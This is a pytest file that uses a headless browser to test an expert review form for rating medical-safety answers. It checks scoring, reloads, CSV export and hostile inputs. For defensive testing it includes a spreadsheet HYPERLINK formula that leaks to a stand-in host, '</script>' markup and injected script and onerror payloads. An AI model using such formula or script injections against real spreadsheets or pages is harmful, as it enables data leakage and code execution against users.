"""The review form as a rater uses it, in a real headless Chromium: open it from file://, score
several items (mouse and keyboard), comment, reload and find the progress kept, save the labels,
and import the saved file with 05's import function."""

import time

import pandas as pd
import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from medsafe_utils.judge.review import ReviewConfig, compare_to_experts, read_labels, review_sample
from medsafe_utils.judge.review_form import MAX_SHOWN, export_review

pytestmark = pytest.mark.slow


def _text(browser, element_id: str) -> str:
    return browser.find_element(By.ID, element_id).text


def _item(sample: pd.DataFrame, browser) -> pd.Series:
    """The sample row of the item the form shows now (by its position)."""
    position = int(_text(browser, "position").split()[1])
    return sample[sample["position"] == position].iloc[0]


def _score(browser, score: int) -> None:
    browser.find_element(By.ID, f"label-{score}").click()


def _wait_for_file(folder, name: str, timeout: float = 20.0):
    path = folder / name
    deadline = time.time() + timeout
    while time.time() < deadline:
        if path.exists() and not list(folder.glob("*.crdownload")) and path.stat().st_size:
            return path
        time.sleep(0.1)
    raise AssertionError(f"{name} was not downloaded; found {sorted(folder.iterdir())}")


def test_rater_scores_reloads_saves_and_the_labels_import(
    tmp_path, browser, browser_downloads, review_judgments
):
    sample = review_sample(review_judgments, ReviewConfig(n=12, seed=2))
    export_review(sample, tmp_path / "expert_review")
    browser.get((tmp_path / "expert_review" / "review_form.html").as_uri())

    # The first item, its policy and the rubric; no judge and no model anywhere in the page.
    assert _text(browser, "position") == "Item 1 of 12"
    assert _text(browser, "progress") == "0 of 12 scored"
    first = _item(sample, browser)
    assert first["position"] == 1
    assert browser.find_element(By.ID, "request").text == first["request"]
    assert len(browser.find_elements(By.CSS_SELECTOR, "input[name=score]")) == 5
    assert "proactively declines" in _text(browser, "label-1")
    page = browser.page_source
    for hidden in ("judge:cycle", "keyword:refusal", "model-a", "model-b", "judge_scores"):
        assert hidden not in page, hidden

    # Score three items: a click, a keystroke, a click after a comment; skip one.
    browser.find_element(By.ID, "rater").send_keys("Dr A")
    scored = {}
    _score(browser, 4)
    scored[first["review_id"]] = 4
    browser.find_element(By.ID, "comment").send_keys('gives a dose, "twice", daily')
    browser.find_element(By.ID, "next").click()
    second = _item(sample, browser)
    browser.find_element(By.TAG_NAME, "body").send_keys("2")
    scored[second["review_id"]] = 2
    browser.find_element(By.TAG_NAME, "body").send_keys(Keys.ARROW_RIGHT)
    browser.find_element(By.ID, "next").click()  # item 3 left unscored
    fourth = _item(sample, browser)
    assert fourth["position"] == 4
    _score(browser, 5)
    _score(browser, 1)  # a change of mind: the last choice counts
    scored[fourth["review_id"]] = 1
    assert _text(browser, "progress") == "3 of 12 scored"

    # Reload: the progress, the position, the scores, the comment and the name are kept.
    browser.refresh()
    assert _text(browser, "progress") == "3 of 12 scored"
    assert _text(browser, "position") == "Item 4 of 12"
    assert browser.find_element(By.ID, "score-1").is_selected()
    assert browser.find_element(By.ID, "rater").get_attribute("value") == "Dr A"
    browser.find_element(By.ID, "next-unscored").click()
    assert _text(browser, "position") == "Item 5 of 12"
    for _ in range(4):
        browser.find_element(By.ID, "prev").click()
    assert _text(browser, "position") == "Item 1 of 12"
    assert browser.find_element(By.ID, "score-4").is_selected()
    assert browser.find_element(By.ID, "comment").get_attribute("value") == (
        'gives a dose, "twice", daily'
    )

    # Quotes, a newline, '</script>' and markup in a response show as plain text.
    tricky = sample[sample["response"].str.contains("</script>")]
    assert len(tricky) == 1, "with this seed the fixture's tricky response is in the sample"
    for _ in range(int(tricky["position"].iloc[0]) - 1):
        browser.find_element(By.ID, "next").click()
    shown = browser.execute_script("return document.getElementById('response').textContent")
    assert shown == tricky["response"].iloc[0]
    assert not browser.find_elements(By.CSS_SELECTOR, "#response b")

    # Save: the CSV download, in labels_template.csv's columns, imports with 05's function.
    browser.find_element(By.ID, "save").click()
    saved = _wait_for_file(browser_downloads, "labels_Dr_A.csv")
    template = pd.read_csv(
        tmp_path / "expert_review" / "labels_template.csv",
        dtype=str,
        keep_default_na=False,
        encoding="utf-8-sig",
    )
    table = pd.read_csv(saved, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert list(table.columns) == list(template.columns)
    assert table.drop(columns=["expert_score", "comment"]).equals(
        template.drop(columns=["expert_score", "comment"])
    )  # every text round-trips exactly
    labels = read_labels([saved], sample)
    assert dict(zip(labels["review_id"], labels["expert_score"], strict=True)) == scored
    assert labels.set_index("review_id").loc[first["review_id"], "comment"] == (
        'gives a dose, "twice", daily'
    )
    assert set(labels["rater"]) == {"Dr_A"}

    result = compare_to_experts(sample, labels, ReviewConfig(n_bootstrap=50))
    assert result.raters[["labelled", "of", "comments"]].iloc[0].tolist() == [3, 12, 1]
    by_judge = result.agreement.set_index("judge")
    for judge in ("judge:cycle", "keyword:refusal-prefix-baseline"):
        judged = {
            rid: sample.set_index("review_id").loc[rid, "judge_scores"][judge] for rid in scored
        }
        pairs = [(e, judged[r]) for r, e in scored.items() if judged[r] is not None]
        assert by_judge.loc[judge, "n_labelled"] == 3
        assert by_judge.loc[judge, "n"] == len(pairs)
        assert by_judge.loc[judge, "exact_agreement"] == pytest.approx(
            sum(e == j for e, j in pairs) / len(pairs)
        )


def test_hostile_texts_stay_text_and_huge_ones_do_not_freeze_the_form(
    tmp_path, browser, browser_downloads, review_judgments
):
    """A megabyte without white space, a spreadsheet formula and markup, in a real browser: the
    item opens at once with its text cut and the rest counted, the page runs no script but its
    own (Content-Security-Policy), and the saved labels carry no formula a spreadsheet would run."""
    huge = "A" * 1_000_000
    formula = '=HYPERLINK("http://x.example/?leak","click")'
    judgments = review_judgments.copy()
    where = judgments["model"].eq("model-a") & judgments["harm_set"].eq("medsafety_eval")
    judgments.loc[where & judgments["item_id"].eq("medsafety_eval-0"), "response"] = huge
    judgments.loc[where & judgments["item_id"].eq("medsafety_eval-1"), "response"] = formula
    sample = review_sample(judgments, ReviewConfig(n=40, seed=0))
    export_review(sample, tmp_path / "expert_review")
    browser.get((tmp_path / "expert_review" / "review_form.html").as_uri())
    assert _text(browser, "position") == "Item 1 of 40"

    # Only the page's own script runs: one injected into the page (as markup in a text that
    # escaped escaping would be) is refused by the policy.
    policy = browser.find_element(By.CSS_SELECTOR, "meta[http-equiv=Content-Security-Policy]")
    assert policy.get_attribute("content").startswith("default-src 'none'; style-src 'sha256-")
    browser.execute_script(
        "const s = document.createElement('script'); s.textContent = 'window.injected = 1';"
        "document.body.append(s);"
        "const i = document.createElement('img'); i.src = 'x';"
        "i.setAttribute('onerror', 'window.injected = 2'); document.body.append(i);"
    )
    time.sleep(0.5)
    assert browser.execute_script("return window.injected === undefined")

    # The megabyte: cut, with the rest counted, and laid out at once (before the cut, and with
    # the system-ui font, 20,000 characters took 4.7 s in Debian's Chromium and 300,000 hung it).
    position = int(sample.loc[sample["response"] == huge, "position"].iloc[0])
    milliseconds = browser.execute_script(
        "const t0 = performance.now(); move(arguments[0] - 1); void document.body.offsetHeight;"
        "return performance.now() - t0;",
        position,
    )
    assert _text(browser, "position") == f"Item {position} of 40"
    shown = browser.execute_script("return document.getElementById('response').textContent")
    assert shown == "A" * MAX_SHOWN + f"\n[{1_000_000 - MAX_SHOWN:,} more characters]"
    assert "more characters]" in _text(browser, "response")
    width = browser.execute_script("return document.getElementById('response').scrollWidth")
    assert width <= browser.execute_script("return document.documentElement.clientWidth")
    assert milliseconds < 1000, f"the item took {milliseconds:.0f} ms to lay out"

    # Save: the formula is text in the CSV (as in labels_template.csv), and it imports.
    browser.find_element(By.ID, "rater").send_keys("dr_b")
    browser.find_element(By.TAG_NAME, "body").send_keys("3")
    browser.find_element(By.ID, "comment").send_keys("-2 doses, @noon")
    browser.find_element(By.ID, "save").click()
    saved = _wait_for_file(browser_downloads, "labels_dr_b.csv")
    table = pd.read_csv(saved, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    template = pd.read_csv(
        tmp_path / "expert_review" / "labels_template.csv",
        dtype=str,
        keep_default_na=False,
        encoding="utf-8-sig",
    )
    assert table.drop(columns=["expert_score", "comment"]).equals(
        template.drop(columns=["expert_score", "comment"])
    )
    cells = table.drop(columns=["expert_score"]).to_numpy().ravel().tolist()
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + formula in cells and "'-2 doses, @noon" in cells
    labels = read_labels([saved], sample)
    assert labels["expert_score"].tolist() == [3]
